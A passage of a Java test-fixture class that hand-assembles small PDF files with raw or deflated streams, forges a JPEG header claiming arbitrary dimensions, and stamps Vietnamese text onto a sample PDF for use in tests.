
    /** One page; the catalog has these keys, and more objects follow as number 9, 10, … */
    static byte[] pdf(String catalog, Object... more) {
        var out = new ByteArrayOutputStream();
        var places = new LinkedHashMap<Integer, Integer>();
        write(out, "%PDF-1.7\n");
        object(out, places, 1, utf8("<</Type /Catalog /Pages 2 0 R " + catalog + ">>"));
        object(out, places, 2, utf8("<</Type /Pages /Kids [3 0 R] /Count 1>>"));
        object(out, places, 3, utf8("<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources <<>>>>"));
        for (var i = 0; i < more.length; i++) {
            object(out, places, 9 + i, more[i] instanceof byte[] bytes ? bytes : utf8((String) more[i]));
        }
        var table = out.size();
        write(out, "xref\n0 1\n0000000000 65535 f \n");
        places.forEach((number, place) -> write(out, "%d 1\n%010d 00000 n \n".formatted(number, place)));
        write(out, "trailer\n<</Size 99 /Root 1 0 R>>\nstartxref\n" + table + "\n%%EOF\n");
        return out.toByteArray();
    }

    private static void object(ByteArrayOutputStream out, Map<Integer, Integer> places, int number, byte[] content) {
        places.put(number, out.size());
        write(out, number + " 0 obj\n");
        out.writeBytes(content);
        write(out, "\nendobj\n");
    }

    private static void write(ByteArrayOutputStream out, String text) {
        out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static byte[] raw(String dictionary, byte[] stream) {
        var out = new ByteArrayOutputStream();
        write(out, dictionary + " /Length " + stream.length + ">>\nstream\n");
        out.writeBytes(stream);
        write(out, "\nendstream");
        return out.toByteArray();
    }

    private static byte[] pdfWithStream(byte[] stream, String filter) {
        return pdf("", raw("<</Filter " + filter, stream));
    }

    private static byte[] deflated(byte[] bytes) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(out, new Deflater(9))) {
            deflater.write(bytes);
        }
        return out.toByteArray();
    }

    private static byte[] jpgThatClaims(int width, int height) {
        var jpg = FileFixtures.jpg(8, 8);
        var bytes = ByteBuffer.wrap(jpg);
        for (var at = 2; at < jpg.length - 9; at++) {
            if (bytes.getShort(at) == (short) 0xffc0) {
                bytes.putShort(at + 5, (short) height).putShort(at + 7, (short) width);
                return jpg;
            }
        }
        throw new IllegalStateException();
    }

    /** The fixture, whose font has the letters; a page of its own for the stamp. */
    public static byte[] stampedPdf(String stamp) throws IOException {
        return stampedPdf(stamp, "Kế hoạch công tác quý");
    }

    public static byte[] stampedPdf(String stamp, String words) throws IOException {
        try (var pdf = Loader.loadPDF(FileFixtures.pdf());
                var out = new ByteArrayOutputStream()) {
            StampedPdf.stamp(pdf, stamp, words);
            pdf.save(out);
            return out.toByteArray();
        }
    }
}
